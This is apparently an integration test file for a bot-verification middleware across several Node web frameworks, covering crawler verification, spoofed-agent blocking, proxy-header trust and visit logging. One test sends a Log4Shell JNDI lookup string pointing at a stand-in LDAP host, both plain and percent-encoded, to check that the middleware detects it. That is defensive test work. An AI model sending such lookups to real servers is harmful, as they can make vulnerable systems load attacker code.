// The middleware in the real frameworks, on loopback: Express 5, Connect, plain node:http, the
// Fastify 5 plugin and Hono 4 on @hono/node-server. The socket address (127.0.0.1, Googlebot's
// range in the test catalog) verifies Googlebot and unmasks a GPTBot spoofer; the result reaches
// the route, the policy answers, /robots.txt is served and each visit reaches the sink.
import { createServer, type Server } from 'node:http';
import { connect as connectHttp2 } from 'node:http2';
import type { AddressInfo } from 'node:net';
import { serve } from '@hono/node-server';
import connect from 'connect';
import express from 'express';
import Fastify from 'fastify';
import { Hono } from 'hono';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClientIpRule, parseVisit, type AgentwardenOptions, type SinkVisit, type VisitSink } from '../../src/index.js';
import { serializeVisit } from '../../src/embed/http-sink.js';
import { agentwarden as expressAgentwarden } from '../../src/adapters/express/index.js';
import { agentwarden as fastifyAgentwarden } from '../../src/adapters/fastify/index.js';
import { agentwarden as honoAgentwarden, type AgentwardenVariables } from '../../src/adapters/hono/index.js';
import { BROWSER_UA, embedEngine, GOOGLEBOT_UA, GPTBOT_UA, LOOPBACK_STAND_IN } from './fixtures.js';

interface Collected extends VisitSink {
  readonly visits: SinkVisit[];
  /** Resolves once `count` visits have arrived (visits are recorded after the response is sent). */
  until(count: number): Promise<void>;
}

function collectingSink(): Collected {
  const visits: SinkVisit[] = [];
  let waiting: { count: number; resolve: () => void }[] = [];
  return {
    visits,
    push(visit) {
      visits.push(visit);
      waiting = waiting.filter((w) => (visits.length >= w.count ? (w.resolve(), false) : true));
    },
    until: (count) => (visits.length >= count ? Promise.resolve() : new Promise((resolve) => waiting.push({ count, resolve }))),
    flush: async () => {},
    close: async () => {},
  };
}

const options = (sink: VisitSink): AgentwardenOptions => ({
  engine: embedEngine(),
  sink,
  policy: { denyVerificationFailed: true, robotsTxt: { agentTypes: ['AI Data Scraper'] } },
});

interface Running {
  readonly url: string;
  close(): Promise<void>;
}

async function listen(server: Server): Promise<Running> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
  };
}

// Each framework serves GET /page (the result as JSON) and GET /boom (throws), mounted at /.
const frameworks: Record<string, (sink: VisitSink) => Promise<Running>> = {
  async express(sink) {
    const app = express();
    app.use(expressAgentwarden(options(sink)));
    app.get('/page', (req, res) => {
      res.json({ result: req.agentwarden?.result, clientIp: req.agentwarden?.clientIp, agent: req.agentwarden?.identification.result === 'unknown_agent' ? null : req.agentwarden?.identification.agent_id });
    });
    const router = express.Router();
    router.get('/inner', (req, res) => void res.json({ result: req.agentwarden?.result }));
    app.use('/mounted', router);
    app.get('/boom', () => {
      throw new Error('route failed');
    });
    return listen(createServer(app));
  },
  async connect(sink) {
    const app = connect();
    app.use(expressAgentwarden(options(sink)) as connect.NextHandleFunction);
    app.use('/page', (req, res) => {
      const result = (req as { agentwarden?: { result: string; clientIp?: string; identification: { agent_id?: string } } }).agentwarden!;
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ result: result.result, clientIp: result.clientIp, agent: result.identification.agent_id ?? null }));
    });
    app.use('/boom', () => {
      throw new Error('route failed');
    });
    return listen(createServer(app));
  },
  async 'node:http'(sink) {
    const middleware = expressAgentwarden(options(sink));
    return listen(
      createServer((req, res) =>
        middleware(req, res, () => {
          const result = (req as { agentwarden?: { result: string; clientIp?: string; identification: { agent_id?: string } } }).agentwarden!;
          if (req.url === '/boom') {
            res.statusCode = 500;
            return void res.end('failed');
          }
          res.setHeader('content-type', 'application/json');
          res.end(JSON.stringify({ result: result.result, clientIp: result.clientIp, agent: result.identification.agent_id ?? null }));
        }),
      ),
    );
  },
  async fastify(sink) {
    const app = Fastify();
    await app.register(fastifyAgentwarden, options(sink));
    app.get('/page', async (request) => ({
      result: request.agentwarden?.result,
      clientIp: request.agentwarden?.clientIp,
      agent: request.agentwarden?.identification.result === 'unknown_agent' ? null : request.agentwarden?.identification.agent_id,
    }));
    app.get('/boom', async () => {
      throw new Error('route failed');
    });
    await app.listen({ port: 0, host: '127.0.0.1' });
    return { url: `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`, close: () => app.close() };
  },
  async hono(sink) {
    const app = new Hono<{ Variables: AgentwardenVariables }>();
    app.use(honoAgentwarden(options(sink)));
    app.get('/page', (c) => {
      const result = c.get('agentwarden');
      return c.json({ result: result.result, clientIp: result.clientIp, agent: result.identification.result === 'unknown_agent' ? null : result.identification.agent_id });
    });
    app.get('/boom', () => {
      throw new Error('route failed');
    });
    const server = await new Promise<Server>((resolve) => {
      const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s as Server));
    });
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))) };
  },
};

const get = (url: string, ua: string, headers: Record<string, string> = {}) => fetch(url, { headers: { 'user-agent': ua, ...headers } });

describe.each(Object.keys(frameworks))('%s', (name) => {
  const sink = collectingSink();
  let app: Running;
  beforeAll(async () => {
    app = await frameworks[name]!(sink);
  });
  afterAll(() => app.close());

  it('verifies by the socket address and puts the result on the request', async () => {
    const before = sink.visits.length;
    const response = await get(`${app.url}/page?x=1`, GOOGLEBOT_UA, { 'x-forwarded-for': '192.0.2.1', cookie: 'session=1' });
    expect(response.status).toBe(200);
    expect(await response.json()).toEqual({ result: 'verified', clientIp: '127.0.0.1', agent: 'googlebot' });
    await sink.until(before + 1);
    const visit = sink.visits[before]!;
    expect(visit).toMatchObject({ request_path: '/page?x=1', request_method: 'GET', response_status_code: 200, client_ip: '127.0.0.1' });
    expect(visit.request_headers).toMatchObject({ 'user-agent': GOOGLEBOT_UA });
    expect(String((visit.response_headers as Record<string, string>)['content-type'])).toContain('application/json');
    expect(visit.response_duration_in_milliseconds).toBeGreaterThanOrEqual(0);
  });

  it('answers a spoofed agent with 403 and records the decision', async () => {
    const before = sink.visits.length;
    const response = await get(`${app.url}/page`, GPTBOT_UA);
    expect(response.status).toBe(403);
    expect(await response.text()).toContain('Forbidden');
    await sink.until(before + 1);
    expect(sink.visits[before]).toMatchObject({ response_status_code: 403, is_blocked: true, decision: { rule: 'deny-verification-failed', action: 'deny', report_only: false } });
  });

  it('names a Log4Shell lookup sprayed over the other headers or the query, behind a browser User-Agent; a verified crawler on a planted link stays itself', async () => {
    const sprayed = await get(`${app.url}/page`, BROWSER_UA, { 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}' });
    expect(await sprayed.json()).toEqual({ result: 'not_verifiable', clientIp: '127.0.0.1', agent: 'probe:log4shell' });
    // Percent-encoded, as a scanner sends it to pass filters: read as the server decodes it.
    const queried = await get(`${app.url}/page?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D`, BROWSER_UA);
    expect(await queried.json()).toEqual({ result: 'not_verifiable', clientIp: '127.0.0.1', agent: 'probe:log4shell' });
    // Googlebot following a planted link stays Googlebot, verified by its address.
    const crawled = await get(`${app.url}/page?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2Fa%7D`, GOOGLEBOT_UA);
    expect(await crawled.json()).toEqual({ result: 'verified', clientIp: '127.0.0.1', agent: 'googlebot' });
    const plain = await get(`${app.url}/page?q={x}`, BROWSER_UA, { cookie: 'prefs={"a":1}' });
    expect(await plain.json()).toEqual({ result: 'unknown_agent', clientIp: '127.0.0.1', agent: null });
  });

  it('serves /robots.txt from the policy', async () => {
    const response = await get(`${app.url}/robots.txt`, BROWSER_UA);
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(embedEngine().robotsTxt({ agent_types: ['AI Data Scraper'] }));
  });

  it('records the error status when a route fails', async () => {
    const before = sink.visits.length;
    const response = await get(`${app.url}/boom`, BROWSER_UA);
    expect(response.status).toBe(500);
    await sink.until(before + 1);
    expect(sink.visits[before]).toMatchObject({ request_path: '/boom', response_status_code: 500 });
  });
});

describe('express specifics', () => {
  it('records the path the client asked for below a mount point', async () => {
    const sink = collectingSink();
    const app = await frameworks['express']!(sink);
    try {
      const response = await get(`${app.url}/mounted/inner`, BROWSER_UA);
      expect(await response.json()).toEqual({ result: 'unknown_agent' });
      await sink.until(1);
      expect(sink.visits[0]!.request_path).toBe('/mounted/inner');
    } finally {
      await app.close();
    }
  });

  it('takes the address from req.ip when the app trusts its proxy', async () => {
    const sink = collectingSink();
    const app = express();
    app.set('trust proxy', 'loopback');
    app.use(expressAgentwarden({ engine: embedEngine(), sink }));
    app.get('/', (req, res) => void res.json(req.agentwarden));
    const running = await listen(createServer(app));
    try {
      const body = (await (await get(`${running.url}/`, GOOGLEBOT_UA, { 'x-forwarded-for': '192.0.2.1', cookie: 'session=secret' })).json()) as Record<string, unknown>;
      expect(body).toMatchObject({ clientIp: '192.0.2.1', result: 'verification_failed' });
      // The result an application may serialise carries no request headers.
      expect(JSON.stringify(body)).not.toContain('secret');
    } finally {
      await running.close();
    }
  });
});

describe('express behind a local proxy on a unix socket', () => {
  it("believes the rule's header from the socket, which has no address, not req.ip (with trust proxy, the client's own leftmost X-Forwarded-For entry)", async () => {
    const { mkdtempSync, rmSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { request } = await import('node:http');
    const dir = mkdtempSync(join(tmpdir(), 'agentwarden-unix-'));
    const socketPath = join(dir, 'app.sock');
    const app = express();
    app.set('trust proxy', true);
    app.use(expressAgentwarden({ engine: embedEngine(), clientIp: createClientIpRule({ headers: ['x-real-ip'] }) }));
    app.get('/', (req, res) => void res.json({ clientIp: req.agentwarden?.clientIp, result: req.agentwarden?.result }));
    const server = createServer(app);
    await new Promise<void>((resolve) => server.listen(socketPath, resolve));
    try {
      const body = await new Promise<string>((resolve, reject) => {
        const req = request({ socketPath, path: '/', headers: { 'user-agent': GOOGLEBOT_UA, 'x-forwarded-for': LOOPBACK_STAND_IN, 'x-real-ip': '198.51.100.4' } }, (res) => {
          let text = '';
          res.on('data', (chunk) => (text += chunk));
          res.on('end', () => resolve(text));
        });
        req.on('error', reject);
        req.end();
      });
      expect(JSON.parse(body)).toEqual({ clientIp: '198.51.100.4', result: 'verification_failed' });
    } finally {
      await new Promise((resolve) => server.close(resolve));
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('express with a trusted proxy header', () => {
  it("believes the rule's header over req.ip when the app trusts every proxy (req.ip is then the client's own leftmost X-Forwarded-For entry)", async () => {
    const app = express();
    app.set('trust proxy', true);
    app.use(expressAgentwarden({ engine: embedEngine(), clientIp: createClientIpRule({ headers: ['x-forwarded-for'] }) }));
    app.get('/', (req, res) => void res.json({ clientIp: req.agentwarden?.clientIp, result: req.agentwarden?.result, express: req.ip }));
    const running = await listen(createServer(app));
    try {
      // The client wrote Googlebot's range; its proxy appended the address it saw.
      expect(await (await get(`${running.url}/`, GOOGLEBOT_UA, { 'x-forwarded-for': `${LOOPBACK_STAND_IN}, 198.51.100.77` })).json()).toEqual({ clientIp: '198.51.100.77', result: 'verification_failed', express: LOOPBACK_STAND_IN });
    } finally {
      await running.close();
    }
  });

  it('takes the address from the header, and from req.ip when the header is absent', async () => {
    const sink = collectingSink();
    const app = express();
    app.use(expressAgentwarden({ engine: embedEngine(), sink, clientIp: createClientIpRule({ headers: ['x-forwarded-for'] }) }));
    app.get('/', (req, res) => void res.json({ clientIp: req.agentwarden?.clientIp, result: req.agentwarden?.result }));
    const running = await listen(createServer(app));
    try {
      expect(await (await get(`${running.url}/`, GOOGLEBOT_UA, { 'x-forwarded-for': '192.0.2.1' })).json()).toEqual({ clientIp: '192.0.2.1', result: 'verification_failed' });
      expect(await (await get(`${running.url}/`, GOOGLEBOT_UA)).json()).toEqual({ clientIp: '127.0.0.1', result: 'verified' });
      await sink.until(2);
      expect(sink.visits.map((visit) => visit.client_ip)).toEqual(['192.0.2.1', '127.0.0.1']);
    } finally {
      await running.close();
    }
  });
});

describe('hono specifics', () => {
  it('records the response headers Node sent, without the cookies it set (a custom sink never gets secrets)', async () => {
    const sink = collectingSink();
    const app = new Hono();
    app.use(honoAgentwarden({ engine: embedEngine(), sink }));
    app.get('/cookies', (c) => {
      c.header('set-cookie', 'a=1; Path=/', { append: true });
      c.header('set-cookie', 'b=2; Path=/', { append: true });
      c.header('x-padded', '  kept inside  ');
      return c.text('ok');
    });
    const server = await new Promise<Server>((resolve) => {
      const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s as Server));
    });
    try {
      const response = await get(`http://127.0.0.1:${(server.address() as AddressInfo).port}/cookies`, BROWSER_UA);
      expect(await response.text()).toBe('ok');
      await sink.until(1);
      expect(response.headers.getSetCookie()).toEqual(['a=1; Path=/', 'b=2; Path=/']);
      expect(sink.visits[0]!.response_headers).toMatchObject({ 'x-padded': 'kept inside', 'content-type': 'text/plain; charset=UTF-8' });
      // Only what the application sent, as Express and Fastify record it: not node:http's own Date,
      // Connection and Keep-Alive, and not its cookies.
      expect(Object.keys(sink.visits[0]!.response_headers!).sort()).toEqual(['content-length', 'content-type', 'x-padded']);
    } finally {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    }
  });
});

describe('fastify specifics', () => {
  it('closes (flushes) the sink when the instance closes, and refuses bad options at register', async () => {
    let closed = 0;
    const app = Fastify();
    await app.register(fastifyAgentwarden, { sink: { push() {}, flush: async () => {}, close: async () => void closed++ } });
    await app.ready();
    await app.close();
    expect(closed).toBe(1);
    const bad = Fastify();
    await expect(bad.register(fastifyAgentwarden, { policy: { denyAgents: ['nobody'] } }).ready()).rejects.toThrow(/denyAgents\[0\]/);
  });

  it('on HTTP/2 its visits carry the pseudo-headers, and POST /visits takes them as valid visits', async () => {
    const sink = collectingSink();
    const app = Fastify({ http2: true });
    await app.register(fastifyAgentwarden, { engine: embedEngine(), sink });
    app.get('/page', async (request) => ({ result: request.agentwarden?.result }));
    await app.listen({ port: 0, host: '127.0.0.1' });
    const session = connectHttp2(`http://127.0.0.1:${(app.server.address() as AddressInfo).port}`);
    try {
      const stream = session.request({ ':path': '/page?x=1', 'user-agent': GOOGLEBOT_UA });
      let body = '';
      stream.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
      await new Promise((resolve) => stream.on('end', resolve));
      expect(JSON.parse(body)).toEqual({ result: 'verified' });
      await sink.until(1);
      const [visit] = sink.visits;
      expect(visit!.request_headers).toMatchObject({ ':authority': expect.any(String), ':path': '/page?x=1' });
      const parsed = parseVisit(JSON.parse(serializeVisit(visit!)));
      expect(parsed.ok && parsed.visit.request_headers[':path']).toBe('/page?x=1');
    } finally {
      session.close();
      await app.close();
    }
  });

  it("with a clientIp rule, believes the rule's header from the proxy, whatever the instance's trustProxy resolves (its request.ip is the leftmost, forgeable X-Forwarded-For entry)", async () => {
    const sink = collectingSink();
    const app = Fastify({ trustProxy: true });
    await app.register(fastifyAgentwarden, { engine: embedEngine(), sink, clientIp: createClientIpRule({ headers: ['x-real-ip'] }) });
    app.get('/', async (request) => ({ clientIp: request.agentwarden?.clientIp, result: request.agentwarden?.result, fastify: request.ip }));
    await app.listen({ port: 0, host: '127.0.0.1' });
    const url = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}/`;
    try {
      // The client wrote X-Forwarded-For (Googlebot's range here); the proxy set X-Real-IP.
      expect(await (await get(url, GOOGLEBOT_UA, { 'x-forwarded-for': LOOPBACK_STAND_IN, 'x-real-ip': '198.51.100.4' })).json()).toEqual({ clientIp: '198.51.100.4', result: 'verification_failed', fastify: LOOPBACK_STAND_IN });
      // Without the rule's header, the proxy's own address: no evidence for anyone.
      expect(await (await get(url, GOOGLEBOT_UA)).json()).toMatchObject({ clientIp: '127.0.0.1', result: 'verified' });
      await sink.until(2);
      expect(sink.visits.map((visit) => visit.client_ip)).toEqual(['198.51.100.4', '127.0.0.1']);
    } finally {
      await app.close();
    }
  });
});

// A site may use the middleware for its policy alone. With no sink nothing is recorded, so the
// response is not watched either: each framework's route reports the 'close' listeners on its
// response, with a sink and without (none given, or an empty list).
describe('without a sink', () => {
  const apps: Record<string, (agentwardenOptions: AgentwardenOptions) => Promise<Running>> = {
    async express(agentwardenOptions) {
      const app = express();
      app.use(expressAgentwarden(agentwardenOptions));
      app.get('/page', (req, res) => void res.json({ result: req.agentwarden?.result, closeListeners: res.listenerCount('close') }));
      return listen(createServer(app));
    },
    async fastify(agentwardenOptions) {
      const app = Fastify();
      await app.register(fastifyAgentwarden, agentwardenOptions);
      app.get('/page', async (request, reply) => ({ result: request.agentwarden?.result, closeListeners: reply.raw.listenerCount('close') }));
      await app.listen({ port: 0, host: '127.0.0.1' });
      return { url: `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`, close: () => app.close() };
    },
    async hono(agentwardenOptions) {
      const app = new Hono<{ Variables: AgentwardenVariables; Bindings: { outgoing: import('node:http').ServerResponse } }>();
      app.use(honoAgentwarden(agentwardenOptions));
      app.get('/page', (c) => c.json({ result: c.get('agentwarden').result, closeListeners: c.env.outgoing.listenerCount('close') }));
      const server = await new Promise<Server>((resolve) => {
        const s = serve({ fetch: app.fetch, port: 0, hostname: '127.0.0.1' }, () => resolve(s as Server));
      });
      return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))) };
    },
  };

  it.each(Object.keys(apps))('%s: the policy still answers, and no listener waits on the response to record nothing', async (name) => {
    const listeners: Record<string, number> = {};
    for (const [label, sink] of [
      ['a sink', collectingSink()],
      ['none', undefined],
      ['an empty list', []],
    ] as const) {
      const app = await apps[name]!({ engine: embedEngine(), ...(sink === undefined ? {} : { sink }), policy: { denyVerificationFailed: true } });
      try {
        // The spoofer is refused by the policy with or without a sink; Googlebot is verified.
        expect((await get(`${app.url}/page`, GPTBOT_UA)).status).toBe(403);
        const body = (await (await get(`${app.url}/page`, GOOGLEBOT_UA)).json()) as { result: string; closeListeners: number };
        expect(body.result).toBe('verified');
        listeners[label] = body.closeListeners;
      } finally {
        await app.close();
      }
    }
    expect(listeners['none']).toBe(listeners['a sink']! - 1);
    expect(listeners['an empty list']).toBe(listeners['none']);
  });
});
